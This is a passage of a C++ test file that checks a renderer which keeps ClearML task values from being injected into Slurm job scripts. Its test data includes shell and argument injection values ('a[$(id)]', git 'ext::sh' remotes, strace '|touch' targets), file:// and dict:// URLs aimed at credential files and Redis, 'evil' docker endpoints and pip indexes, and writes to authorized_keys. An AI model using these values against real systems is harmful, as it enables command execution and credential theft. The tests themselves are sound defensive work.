  EXPECT_EQ(sbatch.roles.check("/datasets/imagenet"), nullptr);
  for (const char* bad : {"/./root", "//etc/", "/etc/.", "/.", "/data/../etc", "~glue"})
    EXPECT_TRUE(R::forbidden_mount_source(bad)) << bad;
  for (const char* good : {"/data", "/scratch/./run", "cache", "/etcetera", "datasets/imagenet"})
    EXPECT_FALSE(R::forbidden_mount_source(good)) << good;
  // Relative: the job's directory (maybe the glue's home), a file in it, a
  // hidden entry (attack 178).
  for (const char* bad : {".", "./", "./data", ".ssh", "x/.ssh", "clearml.conf", "data/../.."})
    EXPECT_TRUE(R::forbidden_mount_source(bad)) << bad;
  const auto bind = placement(task("apptainer exec --bind %X% img.sif python3 t.py"));
  for (const char* bad : {".ssh:/mnt/k", ".:/mnt/h", "clearml.conf:/c"}) EXPECT_NE(bind.roles.check(bad), nullptr) << bad;
  EXPECT_EQ(bind.roles.check("/datasets/imagenet:/data"), nullptr);
  EXPECT_EQ(placement(task("apptainer exec --bind /data/%X%:/data img.sif python3 t.py")).roles.check("v1.2"), nullptr);
  // The home of the account that renders (the glue's) holds its credentials.
  const char* home = std::getenv("HOME");
  const std::string saved = home ? home : "";
  setenv("HOME", "/home/glue/", 1);
  EXPECT_TRUE(R::forbidden_mount_source("/home/glue"));
  EXPECT_TRUE(R::forbidden_mount_source("/home/./glue/.ssh"));
  EXPECT_FALSE(R::forbidden_mount_source("/home/gluey/data"));
  // Thirty-second review: software trees, logs, boot files, homes
  // themselves, hidden entries, the glue's directories.
  for (const char* bad : {"/opt", "/opt/slurm", "/var/log", "/var/cache", "/lib32", "/nix/store", "/srv/slurmglue",
                          "/srv/slurmglue/tasks", "/swap.img", "/efi", "/home/alice", "/home/alice/.ssh", "//opt",
                          "/data/.cache/x", "/home/gluey"})
    EXPECT_TRUE(R::forbidden_mount_source(bad)) << bad;
  R::forbid_mounting("/site/glue/jobs/");
  EXPECT_TRUE(R::forbidden_mount_source("/site/glue/jobs/t1"));
  EXPECT_TRUE(R::forbidden_mount_source("/site"));
  for (const char* good : {"/srv/data", "/home/alice/datasets", "/tmp/run1", "/site/other"})
    EXPECT_FALSE(R::forbidden_mount_source(good)) << good;
  if (home) setenv("HOME", saved.c_str(), 1); else unsetenv("HOME");
}

TEST(ValueSinks, WrappedWritersSubcommandOptionsAndURLsOfTheTwentyFourthReview) {
  namespace R = sg::render;
  // A runner in front of a program that writes a file: the program's rules hold.
  for (const char* form : {"timeout 900 curl -sSfL -o %X% https://h/x", "nice cp a %X%", "srun mv a %X%",
                           "env A=1 tee %X%", "srun --ntasks=1 dd if=a of=%X%", "command cp a %X%", "time cp a %X%",
                           "mpirun -np 2 cp a %X%", "srun wget -O %X% https://h/x", "nohup rsync -a a %X%",
                           // The program's own options before its subcommand.
                           "git -c advice.detachedHead=false clone --depth 1 https://h/r.git %X%",
                           "git -C d clone https://h/r %X%", "git --no-pager clone https://h/r %X%",
                           "git -C repo worktree add %X%", "git -C repo bundle create %X% HEAD",
                           "aws --region R s3 cp s3://b/k %X%", "apptainer --quiet build %X% image.def",
                           "singularity --debug pull %X% docker://x", "uv --quiet venv %X%",
                           "python3 -B -m zipfile -c %X% outputs",
                           // tar's mode after other options; more writers.
                           "tar --exclude='*.ckpt' -czf %X% outputs", "tar -v -czf %X% o", "tar -C out -czf %X% .",
                           "python3 -m json.tool in.json %X%", "scontrol write batch_script $SLURM_JOB_ID %X%",
                           "papermill in.ipynb %X%", "jupyter nbconvert --output-dir=%X% a.ipynb",
                           "aria2c --log=%X% https://h/x", "python3 -m http.server --directory %X%"}) {
    const auto p = placement(task(form));
    EXPECT_NE(p.roles.check("/home/glue/.ssh/authorized_keys"), nullptr) << form;
    EXPECT_EQ(p.roles.check("out/x"), nullptr) << form;
  }
  // A wrapped copy carries what the file holds into the file that runs.
  EXPECT_TRUE(refused(with("echo \"export RUN_NAME=\\\"@\\\"\" > settings.txt\ntimeout 60 cp settings.txt settings.sh\n"
                           "source ./settings.sh"),
                      "value-parsed-as-code"));
  // python -X pycache_prefix=DIR loads compiled code from DIR.
  EXPECT_TRUE(placement(task("python3 -X pycache_prefix=%X% train.py")).roles.has(R::ElementRole::CodePath));
  EXPECT_TRUE(refused(with("python3 -X @ train.py"), "value-parsed-as-code"));
  // What curl and wget fetch: http, https, ftp, ftps only.
  for (const char* form : {"curl -sSfL -o data/w.pt %X%", "wget -O w %X%", "curl -g https://h/%X%"}) {
    const auto p = placement(task(form));
    // (Without a scheme curl guesses one from the host: dict.H speaks DICT.)
    for (const char* bad : {"file:///home/glue/clearml.conf", "FILE:/etc/passwd", "dict://h:11211/", "gopher://h/",
                            "dict.localhost:16379/flushall", "u@LDAP.corp/x", "imap.h", "smtp.h/a:b"})
      EXPECT_NE(p.roles.check(bad), nullptr) << form << " " << bad;
    for (const char* good : {"https://h/x.pt", "h:8080/x", "run7", "ftp://h/a", "ftp.h/a", "dictionary.h/x", "h/dict.x"})
      EXPECT_EQ(p.roles.check(good), nullptr) << form << " " << good;
  }
  // Code variables of pytest, setuptools and pkg-config.
  for (const char* name : {"PYTEST_ADDOPTS", "LDSHARED", "PKG_CONFIG_PATH"}) EXPECT_TRUE(R::is_code_variable(name)) << name;
  // A mount source that holds a system directory or the glue's home.
  const char* home = std::getenv("HOME");
  const std::string saved = home ? home : "";
  setenv("HOME", "/home/glue", 1);
  for (const char* bad : {"/var", "/home", "/home/", "/usr/.."}) EXPECT_TRUE(R::forbidden_mount_source(bad)) << bad;
  for (const char* good : {"/scratch", "/data/home", "/optional"}) EXPECT_FALSE(R::forbidden_mount_source(good)) << good;
  if (home) setenv("HOME", saved.c_str(), 1); else unsetenv("HOME");
}

TEST(ValueSinks, ServersHostsAndConfigurationAProgramReaches) {
  namespace R = sg::render;
  // The daemon, endpoint or hosts: no scheme, socket, port, user or fragment.
  for (const char* form : {"docker -H %X% run img true", "podman --url=%X% run img", "aws --endpoint-url %X% s3 ls",
                           "aws --endpoint-url https://s3.%X%.amazonaws.com s3 ls", "mpirun -H %X% -np 2 python3 x.py",
                           "srun mpirun --host %X% python3 x.py"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(p.roles.has(R::ElementRole::Endpoint)) << form;
    for (const char* bad : {"tcp://evil:2375", "/tmp/docker.sock", "evil.com#", "u@evil"}) EXPECT_NE(p.roles.check(bad), nullptr) << form << bad;
    EXPECT_EQ(p.roles.check("node01"), nullptr) << form;
  }
  // The options of the program mpirun or docker runs are that program's own.
  for (const char* form : {"docker run img python3 t.py --host %X%", "mpirun -np 2 python3 x.py --host %X%"})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::Endpoint)) << form;
  // Files of configuration that name credential helpers, indexes, hosts.
  for (const char* form : {"docker --config %X% pull img", "uv --config-file %X% sync", "apptainer --config %X% exec i.sif true",
                           "mpirun --hostfile %X% python3 x.py", "mpiexec -f %X% python3 x.py"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  // ... but not those of the program it runs: train.py's --config is a data file of train.py's (fr 81).
  const std::string config = "cat > run.json <<EOF\n{\"name\": \"%X%\"}\nEOF\n";
  for (const char* runner : {"apptainer exec --nv i.sif", "singularity exec i.sif", "docker run img"})
    EXPECT_TRUE(rules(task(config + runner + " python3 train.py --config run.json")).empty()) << runner;
  EXPECT_TRUE(refused(task(config + "apptainer --config run.json exec i.sif true"), "value-parsed-as-code"));
}

TEST(ValueSinks, AnyRunnerRunsTheFileItsProgramReads) {
  // A file named at run time, with a value in it, run through any runner.
  for (const char* runner : {"nice", "setsid", "taskset -c 0", "numactl --interleave=all", "chrt -b 0", "stdbuf -oL"})
    EXPECT_TRUE(refused(with(std::string("echo \"echo @\" > step.txt\nF=step.txt\n") + runner + " bash \"$F\""),
                        "value-parsed-as-code"))
        << runner;
  // dd if=F under a runner carries F's text.
  EXPECT_TRUE(refused(with("echo \"echo @\" > s.txt\nsrun dd if=s.txt of=run.txt\nbash run.txt"), "value-parsed-as-code"));
}

TEST(ValueSinks, ListFilesIntegerNamesImagesAndRemotesOfTheTwentyFifthReview) {
  namespace R = sg::render;
  // A file a program reads as a list: one word per line, whatever its name.
  for (const char* form : {"echo \"%X%\" > packages.txt\npip install -r packages.txt",
                           "echo \"%X%\" > reqs.txt\nuv pip install -r reqs.txt",
                           "echo \"%X%\" > env-pkgs.txt\nconda install -y --file env-pkgs.txt",
                           "echo \"%X%\" > pins.txt\npip install -c pins.txt torch",
                           "echo \"%X%\" >> nodes.txt\nmpirun --hostfile nodes.txt python3 x.py",
                           "echo \"%X%\" > packages.txt\npython3 -m pip install -r packages.txt"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(p.roles.has(R::ElementRole::DataWord)) << form;
    EXPECT_NE(p.roles.check("--index-url=http://evil/simple"), nullptr) << form;
    EXPECT_EQ(p.roles.check("numpy"), nullptr) << form;
  }
  // srun --multi-prog's lines and the pieces split and csplit write are commands.
  for (const char* form : {"cat > multi.conf <<EOF\n0 python3 train.py --lr @\nEOF\nsrun --multi-prog multi.conf",
                           "cat > cmds.txt <<EOF\npython3 t.py --name @\nEOF\nsplit -n l/2 -d cmds.txt chunk_\nbash chunk_00",
                           "cat > cmds.txt <<EOF\npython3 t.py --name @\nEOF\ncsplit -s cmds.txt 2\nbash xx00"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  // An integer attribute given to a name chosen at run time, or in eval.
  for (const char* form : {"for v in EPOCHS B; do declare -i \"$v\"; done\nEPOCHS=%X%",
                           "VARS=\"EPOCHS B\"; declare -i $VARS\nEPOCHS=%X%", "eval \"declare -i EPOCHS\"\nEPOCHS=%X%",
                           "ATTR=i; declare -$ATTR EPOCHS\nEPOCHS=%X%"}) {
    const auto p = placement(task(form));
    EXPECT_EQ(p.context.quoting, R::Quoting::Arithmetic) << form;
  }
  EXPECT_NE(placement(task("for v in A B; do declare -r \"$v\"; done\nE=%X%")).context.quoting, R::Quoting::Arithmetic);
  // An image the template's apptainer line runs; a repository git reaches.
  for (const char* form : {"srun apptainer exec --nv \"%X%\" python3 train.py", "singularity run \"%X%\""}) {
    EXPECT_NE(placement(task(form)).roles.check("instance://otherjob"), nullptr) << form;
    EXPECT_EQ(placement(task(form)).roles.check("docker://nvcr.io/x:1"), nullptr) << form;
  }
  // A case change makes ASCII of some letters beyond it: İnstance:// lowered
  // is instance://, FİLE:// is file:// (attack 203); declare -l and -u too.
  for (const char* form : {"I=\"%X%\"\nI=\"${I,,}\"\nsrun apptainer exec --nv \"$I\" python3 train.py",
                           "I=\"%X%\"\nsrun apptainer exec --nv \"${I@L}\" python3 train.py",
                           "declare -l I\nI=\"%X%\"\nsrun apptainer exec --nv \"$I\" python3 train.py",
                           "f() {\n  local -l I=\"%X%\"\n  singularity run \"$I\"\n}\nf"}) {
    EXPECT_NE(placement(task(form)).roles.check("\u0130nstance://otherjob"), nullptr) << form;
    EXPECT_EQ(placement(task(form)).roles.check("docker://nvcr.io/x:1"), nullptr) << form;
  }
  EXPECT_TRUE(refuses(placement(task("U=\"%X%\"\ncurl -fLO \"${U,,}\"")), "F\u0130LE:///etc/passwd"));
  EXPECT_FALSE(refuses(placement(task("U=\"%X%\"\ncurl -fLO \"${U,,}\"")), "https://Example.org/x.tgz"));
  // Values the job's environment carries hold no subscript code either.
  EXPECT_NE(placement("#SBATCH --job-name=${CLEARML_TASK.name}\n").roles.check("a[$(id)]"), nullptr);
  EXPECT_NE(placement("#SBATCH --export=ALL,RUN=${CLEARML_TASK.name}\n").roles.check("a[$(id)]"), nullptr);
  EXPECT_EQ(placement("#SBATCH --job-name=${CLEARML_TASK.name}\n").roles.check("resnet [v2]"), nullptr);
  for (const char* form : {"git clone %X% src", "git -C src fetch %X%", "git submodule add %X% ext/x"}) {
    EXPECT_NE(placement(task(form)).roles.check("ext::sh -c touch% /tmp/p"), nullptr) << form;
    EXPECT_EQ(placement(task(form)).roles.check("git@github.com:org/r.git"), nullptr) << form;
  }
}

TEST(ValueSinks, CompilerMacrosOptionListsAndProjectFilesOfTheTwentySixthReview) {
  namespace R = sg::render;
  // A -D macro's body is C code; -Wl,A,B splits at ','.
  for (const char* form : {"gcc -O2 -DN=%X% bench.c", "gcc -O2 -Wl,-rpath,%X% app.c -o app",
                           "nvcc --compiler-options \"-march=%X%\" k.cu", "g++ -D %X% a.cpp"}) {
    const auto p = placement(task(form));
    EXPECT_NE(p.roles.check("(system(\"touch /tmp/p\"),1000)"), nullptr) << form;
    EXPECT_NE(p.roles.check("lib,-plugin,/tmp/x.so"), nullptr) << form;
    EXPECT_EQ(p.roles.check("1000000"), nullptr) << form;
  }
  // A task runner's project or build file runs its commands.
  for (const char* form : {"npm --prefix %X% run preprocess", "ctest -S %X% -VV", "docker compose -f %X% up",
                           "pre-commit run --config %X%", "cargo run --manifest-path %X%", "mvn -f %X% package"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  // Sources a compiler includes.
  for (const char* name : {"config.hh", "k.cuh", "m.f90", "build.gradle", "x.inl"}) EXPECT_TRUE(R::is_code_file(name)) << name;
  // Attack 123: options files, plugins and preloads that programs find by name.
  for (const char* name : {".valgrindrc", "run/.foorc", "mypy.ini", ".mypy.ini", "dask-config/distributed.yaml", "dask.yaml"})
    EXPECT_TRUE(R::is_code_file(name)) << name;
  for (const char* name : {"rc.txt", ".rc", "src", "notes.yaml"}) EXPECT_FALSE(R::is_code_file(name)) << name;
  for (const char* name : {"uv.toml", "poetry.toml"}) EXPECT_TRUE(R::is_package_file(name)) << name;
}

// Whether the renderer refuses `value` where `pl` stands: a role's rule or
// the path it stands in.
bool refuses(const sg::render::Placement& pl, std::string_view value) {
  return pl.roles.check(value) != nullptr || (pl.written_names && !sg::render::written_file_named(*pl.written_names, value).empty()) ||
         sg::render::check_path_sites(pl.path_sites, value, pl.roles) != nullptr ||
         sg::render::later_use_check(value, pl.context) != nullptr;
}

// A home holds what its account's shells and programs run or read as
// configuration (.bashrc, .ssh/authorized_keys, bin/, clearml.conf, an
// environment's bin/python): no value starts a name there, however the
// template reaches the home (spelled, through a variable, by cd).
TEST(ValueSinks, NoValueNamesAnEntryOfAHome) {
  for (const char* form : {"cp out.txt \"$HOME/%X%\"", "echo done > ~/%X%", "cat results.json >> \"${HOME}\"/%X%",
                           "cd ~\necho done > %X%", "cd\necho done > \"./%X%\"", "cd \"$HOME\"\nbash %X%",
                           "D=%X%\necho done > \"$HOME/$D\"", "pushd ~/\ntouch \"$(date +%s)\" %X%.log",
                           "OUT=${SCRATCH:-$HOME}\necho lr > \"$OUT/%X%\"", "echo hi >> \"${HOME:?}/%X%\"",
                           "H=$HOME\nH2=$H\nmkdir -p \"$H2/%X%\"", "H=$(cd; pwd)\nln -sf \"$PWD/cfg\" \"$H/%X%\"",
                           "echo > \"$(realpath ~)/%X%\"", "echo hi > ~root/%X%",
                           "echo > \"/home/$USER/%X%\"", "echo > \"/home/%X%\"", "cd \"${HOME%/}\"\necho hi > \"%X%\"",
                           "WORKDIR=${WORKDIR:-$HOME}\ncd \"$WORKDIR\"\necho hi > \"%X%\"",
                           "git clone https://example.org/r.git \"${HOME:?}/%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A home named late in a long first expansion (the start of a word is
  // read as far as it decides).
  EXPECT_TRUE(refused(task("echo done > \"$(printf %s " + std::string(300, 'a') + " >/dev/null; echo $HOME)/%X%\""),
                      "value-parsed-as-code"));
  // The task's id is the server's: a plain word.
  EXPECT_TRUE(rules("echo done > \"$HOME/${CLEARML_TASK.id}.log\"\n").empty());
  // Deeper in a home, or relative without cd ~, a value holds directories
  // too, but no hidden one: the directory around it may still be a home.
  for (const char* form : {"echo done > \"$HOME/runs/%X%\"", "echo done > \"%X%\"", "cd ~/work\necho done > %X%",
                           "echo > \"$OUT/%X%\"", "#SBATCH --output=%X%"}) {
    const auto p = placement(task(form));
    EXPECT_FALSE(refuses(p, "exp.1/run")) << form;
    EXPECT_TRUE(refuses(p, ".bashrc")) << form;
    EXPECT_TRUE(refuses(p, "exp.1/.ssh/authorized_keys")) << form;
  }
  // Text before the value in its component: a suffix may start with '.'.
  EXPECT_FALSE(refuses(placement(task("echo > \"model%X%\"")), ".pt"));
  // A copy or download takes the source's last component as its name, in
  // whatever directory it lands in.
  for (const char* form : {"cp %X% ~/", "mv -- %X% \"$HOME\"", "cd ~\ncp %X% .", "wget -P ~ %X%", "cd\nwget -q %X%",
                           "cp -t ~ \"configs/%X%\"", "install -t ~ %X%", "cp --target-directory=\"$HOME\" %X%",
                           "cp %X% \"$OUT\""}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "https://example.org/x/.netrc")) << form;
    EXPECT_TRUE(refuses(p, ".bashrc")) << form;
    EXPECT_TRUE(refuses(p, "data/.profile")) << form;
    EXPECT_FALSE(refuses(p, "https://example.org/x/data.tgz")) << form;
  }
  // %x puts the job name in the log's path.
  EXPECT_TRUE(refuses(placement("#SBATCH --job-name=${CLEARML_TASK.name}\n#SBATCH --output=%x.log\n"), ".bashrc"));
}

// Files programs write or load that the twenty-seventh review named: tar's
// long options with '=', a dask preload, nextflow's logs and reports,
// environments' roots, a saved module collection; and variables cmake,
// ccache, MPI and build tools read.
TEST(ValueSinks, FilesAndVariablesOfTheTwentySeventhReview) {
  for (const char* form : {"tar -cvf out.tar --index-file=%X% data", "tar --listed-incremental=%X% -czf o.tgz data",
                           "tar -cf o.tar --volno-file=%X% data", "uv export -o %X%",
                           "micromamba create -r %X% -n x", "ray start --head --temp-dir=%X%",
                           "wget --warc-file=%X% https://example.org/x", "apptainer exec --workdir %X% img.sif true",
                           "module save %X%", "tar -czf %X% data", "tar czf %X% data", "tar --create --file %X% data",
                           "tar -cz -g %X% -f o.tgz data", "tar -czf o.tgz --remove-files %X%",
                           "tar -xzf o.tgz -C %X%", "tar -xzf o.tgz --directory=%X%"})
    EXPECT_TRUE(refuses(placement(task(form)), "/home/glue/.bashrc")) << form;
  // What tar -c archives, and the directory it reads them in, are only read,
  // as a copy's sources are (fr 81).
  for (const char* form : {"tar -czf o.tgz %X%", "tar czf o.tgz %X%", "tar -czf o.tgz -C %X% .",
                           "tar -czf o.tgz --directory=%X% .", "tar -czf - %X% > o.tgz"})
    EXPECT_FALSE(refuses(placement(task(form)), "/scratch/ckpt/run7")) << form;
  for (const char* form : {"export BOOST_ROOT=%X%\ncmake -S p -B b", "export Torch_DIR=%X%\ncmake -S p -B b",
                           "export CCACHE_DIR=%X%", "export PMI_LIBRARY=%X%", "export NCCL_CONF_FILE=%X%",
                           "export CUDAFLAGS=%X%", "export HIPCXX=%X%", "export NXF_OPTS=%X%", "export DASK_CONFIG=%X%",
                           "export COVERAGE_PROCESS_START=%X%", "export SSLKEYLOGFILE=%X%", "export SKBUILD_CMAKE_ARGS=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Without cmake a NAME_DIR is the job's own; CUDA_VISIBLE_DEVICES is data.
  EXPECT_TRUE(rules(task("export DATA_DIR=%X%\nexport CUDA_VISIBLE_DEVICES=%X%\npython3 train.py")).empty());
}

}  // namespace

namespace {

// A word that names a file refers to what the file holds; a rule about the
// word's text (tar's archive name) is not a rule about the content a
// download put there. A substitution that reads the file is its content.
TEST(ValueSinks, ARuleAboutAFilesNameIsNotAboutWhatItHolds) {
  for (const char* form : {"wget -q -O data.tgz \"%X%\"\ntar -xzf data.tgz", "curl -sLo data.tgz \"%X%\"\ntar -xzf data.tgz -C data"})
    EXPECT_FALSE(refuses(placement(task(form)), "https://example.org/d.tgz")) << form;
  EXPECT_TRUE(refuses(placement(task("echo \"%X%\" > d.txt\nrm -rf \"$(cat d.txt)\"")), "/etc"));
  EXPECT_TRUE(refuses(placement(task("echo \"%X%\" > keep.lst\ntar czf r.tgz -T keep.lst")), "/etc/shadow"));
  EXPECT_TRUE(refused(task("wget -q -O run.sh \"%X%\"\nbash run.sh"), "value-parsed-as-code"));
}

}  // namespace

namespace {

// Programs that run a string they are given (the twenty-ninth review):
// strace -o '|cmd', split --filter, git submodule foreach, wget
// --use-askpass; and code that runs commands built from its own arguments
// (python -c, perl -e, a script from standard input or from a file the
// template wrote), whose arguments are then code.
// The Python Spark runs and JVM options launcher scripts split into words
// (-javaagent: loads code); Spark properties; m4's macros (syscmd).
TEST(ValueSinks, VariablesAndOptionsOfTheThirtiethReview) {
  for (const char* name : {"PYSPARK_PYTHON", "PYSPARK_DRIVER_PYTHON", "PYSPARK_SUBMIT_ARGS", "PYSPARK_DRIVER_PYTHON_OPTS",
                           "SBT_OPTS", "ANT_OPTS", "CATALINA_OPTS", "KAFKA_OPTS", "ES_JAVA_OPTS", "KAFKA_HEAP_OPTS"})
    EXPECT_TRUE(sg::render::is_code_variable(name)) << name;
  for (const char* name : {"TRAIN_OPTS", "EXTRA_ARGS", "NUM_OPTIONS"}) EXPECT_FALSE(sg::render::is_code_variable(name)) << name;
  // Forty-seventh review: options unzip, zipinfo, man and torchrun take from the environment.
  for (const char* name : {"UNZIPOPT", "ZIPINFOOPT", "MANOPT", "PET_NO_PYTHON", "PET_MASTER_ADDR"})
    EXPECT_TRUE(sg::render::is_code_variable(name)) << name;
  for (const char* form : {"spark-submit --conf \"spark.driver.extraJavaOptions=%X%\" app.py",
                           "spark-submit --driver-java-options \"%X%\" app.py", "pyspark --conf spark.pyspark.python=%X%",
                           "m4 -DNAME=\"%X%\" in.m4"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("spark-submit --conf spark.executor.memory=4g app.py --name \"%X%\"")).empty());
}

// >&FILE is &>FILE: a write like any other (a file later run or sourced
// is code); launchers spelled as modules keep --no_python and -m.
TEST(ValueSinks, WritesAndLaunchersOfTheThirtyFirstReview) {
  for (const char* form : {"cat >& launch.sh <<EOF\ntorchrun train.py --lr %X%\nEOF\nbash launch.sh",
                           "LR=\"%X%\"\necho \"LR=$LR\" >&job.env\nsource job.env",
                           "exec >& job.env\necho \"LR=%X%\"\nexec >&2\nsource job.env",
                           "{ echo \"LR=%X%\"; } >&job.env\n. job.env"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("echo \"%X%\" >&2\necho ok >&-\necho \"%X%\" >& out.txt\ncat out.txt")).empty());
  for (const char* form : {"python3 -m accelerate.commands.launch --no_python --num_processes=1 %X% --lr 1",
                           "python3 -m deepspeed.launcher.runner --no_python %X%",
                           "python3 -m torch.distributed.run --nproc_per_node=2 -m %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  EXPECT_TRUE(rules(task("python3 -m accelerate.commands.launch --num_processes=2 train.py --run %X%")).empty());
  // The launcher's options end at its script: the script's own --n, --no,
  // -m are not --no-python or --module.
  for (const char* form : {"torchrun --nproc_per_node=4 train.py --n \"%X%\"", "accelerate launch train.py --no \"%X%\"",
                           "torchrun train.py -m \"%X%\"", "python3 -m torch.distributed.run train.py --no-py \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refused(task("torchrun --no-py %X% train.py"), "placeholder-command"));
  // An option's value that looks like a script does not end them.
  for (const char* form : {"deepspeed --venv_script=/opt/venv/activate.sh --no_python %X% run.sh",
                           "deepspeed --venv_script /opt/venv/bin/activate.sh --no_python %X% run.sh",
                           "accelerate launch --config_file /opt/modules/accel.yaml --no_python %X%",
                           "torchrun --log-dir /scratch/modules/logs -m %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
}

TEST(ValueSinks, ProgramsAndCodeThatRunTheirArgumentsOfTheTwentyNinthReview) {
  for (const char* form : {"strace -f -o \"%X%\" python3 train.py", "strace -o\"%X%\" ls", "ltrace -o %X% ls"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "|touch /tmp/p")) << form;
    EXPECT_TRUE(refuses(p, "!touch /tmp/p")) << form;
    EXPECT_FALSE(refuses(p, "trace.log")) << form;
  }
  for (const char* form : {"split -l 1000 --filter=\"%X% > \\$FILE.gz\" data.csv shard_", "git submodule foreach \"%X%\"",
                           "git -C repo submodule --quiet foreach %X%", "wget --use-askpass=\"%X%\" https://example.org/x",
                           "python3 -c 'import os, sys; os.system(\"nvidia-smi --query-gpu=\" + sys.argv[1])' \"%X%\"",
                           "perl -e 'system(\"echo \" . $ARGV[0])' \"%X%\"",
                           "python3 - \"%X%\" <<'PY'\nimport os, sys\nos.system('echo ' + sys.argv[1])\nPY",
                           "cat > tag.py <<'PY'\nimport os, sys\nos.system('echo ' + sys.argv[1])\nPY\npython3 tag.py \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Code that only prints its arguments, or runs commands without them.
  EXPECT_TRUE(rules(task("python3 -c 'import sys; print(sys.argv[1])' \"%X%\"")).empty());
  EXPECT_TRUE(rules(task("strace --output=trace.log -f python3 train.py \"%X%\"")).empty());
}

// Thirty-eighth review: programs the compiler did not know read a value as
// code (mail's tilde escapes, smbclient's !, deno run -), load a file it
// names (python -m pickle, pydoc, dc -f, m4, git apply), import an
// application it names (gunicorn, celery -A) or write a file it names
// (find -fprint, ffmpeg's output, mknod).
TEST(ValueSinks, ProgramsOfTheThirtyEighthReview) {
  for (const char* form : {"s-nail -~ -s job a@b <<EOF\n%X%\nEOF", "echo \"%X%\" | mail -~ -s x a@b",
                           "echo \"%X%\" | mailx -I -s x a@b", "echo \"%X%\" | mail -S interactive -s x a@b",
                           "smbclient //h/s <<EOF\n%X%\nEOF", "deno run - <<EOF\n%X%\nEOF"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Without escapes turned on, mail copies its input.
  EXPECT_TRUE(rules(task("echo \"%X%\" | mail -s done a@b")).empty());
  for (const char* form : {"python3 -m pickle \"%X%\"", "python3 -m pydoc %X%", "dc -f \"%X%\"", "m4 \"%X%\"",
                           "octave \"%X%\"", "git apply \"%X%\"", "patch -p1 -i \"%X%\"", "gunicorn -c \"%X%\" app:app"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "/shared/evil")) << form;
    EXPECT_FALSE(refuses(p, "helpers")) << form;
  }
  for (const char* form : {"find runs -name '*.pt' -fprint \"%X%\"", "find . -fls %X%", "ffmpeg -i in.mp4 \"%X%\"",
                           "mknod \"%X%\" p"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "/tmp/canary")) << form;
    EXPECT_FALSE(refuses(p, "manifest.txt")) << form;
  }
  for (const char* form : {"gunicorn --bind :8000 \"%X%\"", "gunicorn --preload %X%", "uvicorn %X% --port 80",
                           "gunicorn --preload %X% --bind :80", "celery -A \"%X%\" worker", "celery --app=%X% worker",
                           "dramatiq tasks %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  // An option's value is no application.
  for (const char* form : {"gunicorn -w \"%X%\" app:app", "gunicorn app:app --bind \"0.0.0.0:%X%\"",
                           "uvicorn app:app --port=%X%"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// Thirty-ninth review: values followed through indirection (${!n}), the
// parameters of a mapfile -C callback, text echo or printf writes into a
// script that runs, a function's input (each call's), the script's own
// input set by exec <F, and command substitutions that pass their input on
// ($(cat) reads what the context of its command is fed).
TEST(ValueSinks, ValuesFollowedThroughTheChannelsOfTheThirtyNinthReview) {
  for (const char* form : {"ENTRY=\"%X%\"\nfor n in ENTRY; do python3 ${!n}; done",
                           "HP_lr=\"%X%\"; n=HP_lr; python3 train.py ${!n}",
                           "LR=\"%X%\"; show() { python3 train.py ${!1}; }; show LR",
                           "launch() { python3 train.py $2; }\nmapfile -t -C launch -c 1 E <<< \"%X%\"",
                           "echo 'python3 train.py $ENTRY' > run.sh\nexport ENTRY=\"%X%\"\nbash run.sh",
                           "printf '%s\\n' 'python3 train.py $E' > go\nexport E=\"%X%\"\nbash go",
                           "run() { while read -r c; do python3 train.py $c; done; }\nrun <<< \"%X%\"",
                           "run() { while read -r c; do python3 train.py $c; done; }\necho \"%X%\" > c.txt; run < c.txt",
                           "run() { while read -r c; do python3 train.py $c; done; }\necho \"%X%\" | run",
                           "show() { python3 train.py $(cat); }; show <<< \"%X%\"",
                           "show() { x=$(cat); python3 train.py $x; }; show <<< \"%X%\"",
                           "echo \"%X%\" | python3 train.py $(head -n 1)",
                           "echo \"%X%\" > cfg.txt\nexec < cfg.txt\nread -r CFG\npython3 train.py $CFG"}) {
    EXPECT_TRUE(placement(task(form)).context.split_later) << form;
  }
  // Quoted, or where bash does not feed the value: one word, any text.
  for (const char* form : {"ENTRY=\"%X%\"\nfor n in ENTRY; do python3 train.py \"${!n}\"; done",
                           "echo 'python3 train.py \"$ENTRY\"' > run.sh\nexport ENTRY=\"%X%\"\nbash run.sh",
                           "V=\"%X%\"; python3 train.py $(cat) < <(printf '%s\\n' \"$V\")",
                           "python3 train.py $(date +%s) <<< \"%X%\""})
    EXPECT_FALSE(placement(task(form)).context.split_later) << form;
  // A callback that is no function of the template runs with each line as its words.
  EXPECT_TRUE(refused(task("mapfile -C eval -c 1 E <<< \"%X%\""), "value-parsed-as-code"));
}

// Fortieth review: the rules about a value's first character hold for what
// the template makes of it: a literal start cut, a replacement (a
// sanitizer), a cut anywhere, and read without -r, which drops '\'.
// Each form with one value the placement refuses and one it takes.
struct RefusalCase {
  const char* form;
  const char* refused;
  const char* accepted;
};
void expect_refusals(std::initializer_list<RefusalCase> cases) {
  for (const auto& c : cases) {
    const auto p = placement(task(c.form));
    EXPECT_TRUE(refuses(p, c.refused)) << c.form << " with " << c.refused;
    EXPECT_FALSE(refuses(p, c.accepted)) << c.form << " with " << c.accepted;
  }
